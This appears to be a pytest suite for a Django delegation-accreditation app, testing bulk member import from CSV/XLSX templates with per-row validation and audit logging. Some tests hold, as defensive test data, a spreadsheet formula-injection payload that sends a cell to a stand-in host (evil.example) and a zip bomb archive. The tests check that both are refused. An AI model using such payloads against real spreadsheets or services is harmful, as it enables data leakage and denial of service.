"""Bulk nomination of a delegation's members from the CSV/XLSX template, with per-row errors."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from majlis.accreditation.models import Application, Category, Delegation
from majlis.core.models import AuditEntry
from tests.accreditation.delegation_helpers import *  # noqa: F403 - the fixtures
from tests.accreditation.delegation_helpers import PDF_BYTES, url

pytestmark = [pytest.mark.django_db]

HEADERS = [
    "Title",
    "Family name, as in the passport",
    "Given names, as in the passport",
    "Name in their own script",
    "Gender",
    "Nationality",
    "Organisation",
    "Position",
    "E-mail",
    "Phone",
    "Language for our e-mails to this person",
    "Takes part",
    "Passport number",
    "Passport expiry date",
    "Passport issued by",
    "Arrival (date and time)",
    "Departure (date and time)",
]


def person(**overrides):
    row = {
        "Title": "H.E.",
        "Family name, as in the passport": "Tokayev",
        "Given names, as in the passport": "Nurlan",
        "Name in their own script": "Нурлан Токаев",
        "Gender": "male",
        "Nationality": "KZ",
        "Organisation": "Ministry of Foreign Affairs",
        "Position": "Deputy Minister",
        "E-mail": "nurlan@example.org",
        "Phone": "+7 717 272 05 17",
        "Language for our e-mails to this person": "ru",
        "Takes part": "in_person",
        "Passport number": "N12345678",
        "Passport expiry date": "31.01.2030",
        "Passport issued by": "KZ",
        "Arrival (date and time)": "2022-03-02 18:30",
        "Departure (date and time)": "05.03.2022 09:00",
    }
    row.update(overrides)
    return row


def online(**overrides):
    return person(
        **{
            "Takes part": "online",
            "Passport number": "",
            "Passport expiry date": "",
            "Passport issued by": "",
            "Arrival (date and time)": "",
            "Departure (date and time)": "",
            **overrides,
        }
    )


def csv_file(rows, name="members.csv", headers=HEADERS, delimiter=","):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(headers)
    for row in rows:
        writer.writerow([row.get(h, "") for h in headers])
    return SimpleUploadedFile(name, buffer.getvalue().encode("utf-8"), content_type="text/csv")


def xlsx_file(rows, name="members.xlsx", headers=HEADERS):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append([row.get(h, "") for h in headers])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


@pytest.fixture
def focal_client(client, focal_point):
    client.force_login(focal_point)
    return client


@pytest.fixture
def organiser_client(client, organiser):
    client.force_login(organiser)
    return client


def upload(client, event, delegation, file, *, consent=True, name="focal-bulk"):
    data = {"file": file}
    if consent:
        data["consent"] = "on"
    return client.post(url(name, event, pk=delegation.pk), data)


# --- The template --------------------------------------------------------------------------------


def test_template_xlsx_has_headers_explanations_and_allowed_values(focal_client, event, delegation):
    response = focal_client.get(url("focal-bulk-template", event, pk=delegation.pk, fmt="xlsx"))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    workbook = load_workbook(io.BytesIO(response.content))
    members, values = workbook.worksheets
    header = [cell.value for cell in members[1]]
    # The delegation may give three categories (its kind's usual ones): the column lists only those.
    assert header[:4] == ["Category", "Title", "Family name, as in the passport", "Given names, as in the passport"]
    explanation = {h: cell.value for h, cell in zip(header, members[2], strict=False)}
    assert "YYYY-MM-DD" in explanation["Passport expiry date"]
    assert "female" in explanation["Gender"] and "in_person" in explanation["Takes part"]
    allowed = [[cell.value for cell in row] for row in values.iter_rows()]
    assert ["Country (nationality, passport)", "KZ", "Kazakhstan"] in allowed
    assert ["Title", "he", "H.E."] in allowed
    categories = {row[1] for row in allowed if row[0] == "Category"}
    assert {"delegate", "minister", "head-of-state"} <= categories
    assert not categories & {"organiser-staff", "interpreter", "security-support", "media"}


def test_template_headers_follow_the_page_language(client, focal_point, event, delegation):
    client.force_login(focal_point)
    path = url("focal-bulk-template", event, pk=delegation.pk, fmt="csv").replace("/en/", "/ru/", 1)
    response = client.get(path)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    from django.utils import translation

    with translation.override("ru"):
        from django.utils.translation import gettext

        assert header[2] == gettext("Family name, as in the passport")


def test_template_quotes_a_category_name_that_looks_like_a_formula(organiser_client, event, organiser):
    from tests.factories import make_delegation

    delegation = make_delegation(event, default_category=None)
    Category.objects.filter(event=event, code="delegate").update(name_en='=HYPERLINK("https://evil.example","x")')
    response = organiser_client.get(url("organiser-bulk-template", event, pk=delegation.pk, fmt="xlsx"))
    workbook = load_workbook(io.BytesIO(response.content))
    header = [cell.value for cell in workbook.worksheets[0][1]]
    assert header[0] == "Category"
    values = [cell.value for row in workbook.worksheets[1].iter_rows() for cell in row]
    assert '\'=HYPERLINK("https://evil.example","x")' in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
    csv_text = organiser_client.get(url("organiser-bulk-template", event, pk=delegation.pk, fmt="csv")).content.decode(
        "utf-8-sig"
    )
    assert "'=HYPERLINK" not in csv_text.split("\n")[0]  # headers are plain
    assert ',"=HYPERLINK' not in csv_text and '"=HYPERLINK' not in csv_text


def test_template_unknown_format_is_404(focal_client, event, delegation):
    assert focal_client.get(url("focal-bulk-template", event, pk=delegation.pk, fmt="ods")).status_code == 404


# --- Importing -----------------------------------------------------------------------------------


def test_clean_csv_nominates_every_member(focal_client, event, delegation):
    file = csv_file(
        [
            person(),
            online(
                **{
                    "E-mail": "aigerim@example.org",
                    "Given names, as in the passport": "Aigerim",
                    "Gender": "",
                    "Title": "Ms",
                }
            ),
        ]
    )
    response = upload(focal_client, event, delegation, file)
    assert response.status_code == 302 and response["Location"] == url("focal", event, pk=delegation.pk)
    members = {m.email: m for m in Application.objects.filter(delegation=delegation)}
    assert set(members) == {"nurlan@example.org", "aigerim@example.org"}
    nurlan = members["nurlan@example.org"]
    assert nurlan.status == Application.Status.DRAFT and nurlan.honorific == "he"
    assert nurlan.passport_expiry.isoformat() == "2030-01-31" and nurlan.passport_number_digest
    assert nurlan.departure_at is not None and nurlan.category == delegation.default_category
    assert members["aigerim@example.org"].gender == "undisclosed" and members["aigerim@example.org"].mode == "online"
    entry = AuditEntry.objects.get(action="accreditation.delegation_bulk_nominated")
    assert sorted(entry.data["members"]) == sorted(m.pk for m in members.values())


def test_csv_with_bad_rows_imports_nothing_and_lists_each_error(focal_client, event, delegation):
    file = csv_file(
        [
            person(),
            online(**{"E-mail": "second@example.org", "Nationality": "XX"}),
            person(**{"E-mail": "third@example.org", "Passport number": "", "Passport expiry date": "2022-03-03"}),
            online(**{"E-mail": "nurlan@example.org", "Passport number": "N7654321"}),
        ],
        delimiter=";",
    )
    response = upload(focal_client, event, delegation, file)
    assert response.status_code == 400
    assert not Application.objects.filter(delegation=delegation).exists()
    errors = {(e.row, e.column) for e in response.context["outcome"].errors}
    assert (3, "Nationality") in errors
    assert (4, "Passport number") in errors and (4, "Passport expiry date") in errors
    assert (5, "E-mail") in errors  # the same person twice in one file
    assert not any(row == 2 for row, _column in errors)
    html = response.content.decode()
    assert "Nothing was imported: 3 rows have errors." in html
    assert "Needed for in-person participants." in html
    assert AuditEntry.objects.filter(action="accreditation.delegation_bulk_nomination_refused").exists()
    assert not AuditEntry.objects.filter(action="accreditation.created").exists()


def test_xlsx_with_bad_rows_imports_nothing(focal_client, event, delegation):
    file = xlsx_file([person(), online(**{"E-mail": "not-an-address", "Takes part": "by pigeon"})])
    response = upload(focal_client, event, delegation, file)
    assert response.status_code == 400
    errors = {(e.row, e.column) for e in response.context["outcome"].errors}
    assert errors == {(3, "E-mail"), (3, "Takes part")}
    assert not Application.objects.filter(delegation=delegation).exists()


def test_xlsx_typed_dates_and_numbers_are_read(focal_client, event, delegation):
    from datetime import date, datetime

    row = person(**{"Passport expiry date": date(2031, 5, 1), "Arrival (date and time)": datetime(2022, 3, 2, 18, 30)})
    row["Departure (date and time)"] = datetime(2022, 3, 5, 9, 0)
    response = upload(focal_client, event, delegation, xlsx_file([row]))
    assert response.status_code == 302
    member = Application.objects.get(delegation=delegation)
    assert member.passport_expiry == date(2031, 5, 1)


def test_filled_in_template_round_trip_skips_the_explanatory_row(focal_client, event, delegation):
    response = focal_client.get(url("focal-bulk-template", event, pk=delegation.pk, fmt="xlsx"))
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    values = person()
    sheet.append([values.get(h, "") for h in header])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = upload(focal_client, event, delegation, SimpleUploadedFile("filled.xlsx", buffer.getvalue()))
    assert response.status_code == 302
    assert Application.objects.filter(delegation=delegation).count() == 1


def test_formula_cell_is_refused(focal_client, event, delegation):
    file = csv_file([person(**{"Position": '=HYPERLINK("https://evil.example/?"&A1,"click")'})])
    response = upload(focal_client, event, delegation, file)
    assert response.status_code == 400
    (error,) = response.context["outcome"].errors
    assert (error.row, error.column) == (2, "Position")
    assert "starts like a spreadsheet formula" in error.message
    assert not Application.objects.exists()


def test_xlsx_formula_cell_is_refused(focal_client, event, delegation):
    file = xlsx_file([person(**{"Organisation": "=1+2"})])
    response = upload(focal_client, event, delegation, file)
    assert response.status_code == 400
    assert [(e.row, e.column) for e in response.context["outcome"].errors] == [(2, "Organisation")]


def test_a_file_that_is_not_a_spreadsheet_is_refused(focal_client, event, delegation):
    response = upload(focal_client, event, delegation, SimpleUploadedFile("members.xlsx", PDF_BYTES))
    assert response.status_code == 400
    assert "This file is not a CSV or XLSX spreadsheet." in response.content.decode()
    assert not Application.objects.exists()


def test_a_zip_that_is_not_a_workbook_is_refused(focal_client, event, delegation):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hello")
    response = upload(focal_client, event, delegation, SimpleUploadedFile("members.xlsx", buffer.getvalue()))
    assert "This file is not a CSV or XLSX spreadsheet." in response.content.decode()


def test_a_zip_bomb_is_not_opened(focal_client, event, delegation):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (60 * 1024 * 1024))
    assert len(buffer.getvalue()) < 1024 * 1024
    response = upload(focal_client, event, delegation, SimpleUploadedFile("bomb.xlsx", buffer.getvalue()))
    assert response.status_code == 400
    assert "unpacks to too much data" in response.content.decode()


def test_a_huge_file_is_refused(focal_client, event, delegation):
    big = SimpleUploadedFile("members.csv", b"a,b\n" * (600 * 1024))
    response = upload(focal_client, event, delegation, big)
    assert response.status_code == 400
    assert "The file is too large: at most 2 MB." in response.content.decode()


def test_too_many_rows_are_refused(focal_client, event, delegation):
    rows = [online(**{"E-mail": f"p{n}@example.org"}) for n in range(503)]
    response = upload(focal_client, event, delegation, csv_file(rows))
    assert response.status_code == 400
    assert "more than 500 rows" in response.content.decode()
    assert not Application.objects.exists()


def test_csv_not_in_utf8_is_explained(focal_client, event, delegation):
    content = ",".join(HEADERS).encode() + "\nТокаев".encode("cp1251")
    response = upload(focal_client, event, delegation, SimpleUploadedFile("members.csv", content))
    assert "The CSV file is not in UTF-8" in response.content.decode()


def test_unknown_and_missing_columns_are_reported(focal_client, event, delegation):
    file = csv_file([{"Surname": "Tokayev"}], headers=["Surname", "Given names, as in the passport"])
    response = upload(focal_client, event, delegation, file)
    errors = [(e.row, e.column, e.message) for e in response.context["outcome"].errors]
    assert (1, "Surname", "Unknown column: use the headers of the template.") in errors
    assert (1, "Family name, as in the passport", "This column is missing.") in errors


def test_consent_must_be_confirmed(focal_client, event, delegation):
    response = upload(focal_client, event, delegation, csv_file([person()]), consent=False)
    assert response.status_code == 400
    assert "Confirm that every person in the file agreed to the privacy notice" in response.content.decode()
    assert not Application.objects.exists()


def test_member_limit_applies_to_the_whole_file(focal_client, event, delegation):
    Delegation.objects.filter(pk=delegation.pk).update(member_limit=1)
    delegation.refresh_from_db()
    file = csv_file([online(), online(**{"E-mail": "second@example.org"})])
    response = upload(focal_client, event, delegation, file)
    assert response.status_code == 400
    assert [e.row for e in response.context["outcome"].errors] == [3]
    assert "at most 1 member." in response.content.decode()
    assert not Application.objects.exists()


def test_headers_in_russian_are_recognised(focal_client, event, delegation):
    from django.utils import translation
    from django.utils.translation import gettext, pgettext

    with translation.override("ru"):
        russian = [pgettext("form of address", h) if h == "Title" else gettext(h) for h in HEADERS]
    assert russian[1] == "Фамилия (как в паспорте)"
    rows = [{r: person()[h] for r, h in zip(russian, HEADERS, strict=True)}]
    response = upload(focal_client, event, delegation, csv_file(rows, headers=russian))
    assert response.status_code == 302


def test_organiser_uploads_on_the_delegations_page(organiser_client, event, delegation, organiser):
    page = organiser_client.get(url("detail", event, pk=delegation.pk)).content.decode()
    assert url("organiser-bulk", event, pk=delegation.pk) in page
    response = upload(organiser_client, event, delegation, csv_file([person()]), name="organiser-bulk")
    assert response.status_code == 302 and response["Location"] == url("detail", event, pk=delegation.pk)
    member = Application.objects.get(delegation=delegation)
    assert AuditEntry.objects.filter(action="accreditation.created", object_id=str(member.pk), actor=organiser).exists()


def test_upload_refused_while_the_credentials_are_checked(focal_client, event, delegation):
    Delegation.objects.filter(pk=delegation.pk).update(status=Delegation.Status.SUBMITTED)
    response = upload(focal_client, event, delegation, csv_file([person()]))
    assert response.status_code == 400
    assert not Application.objects.exists()


def test_bulk_page_says_nothing_is_imported_unless_every_row_is_correct(focal_client, event, delegation):
    page = focal_client.get(url("focal-bulk", event, pk=delegation.pk)).content.decode()
    assert "The file is imported only if every row is correct" in page
    assert url("focal-bulk-template", event, pk=delegation.pk, fmt="xlsx") in page
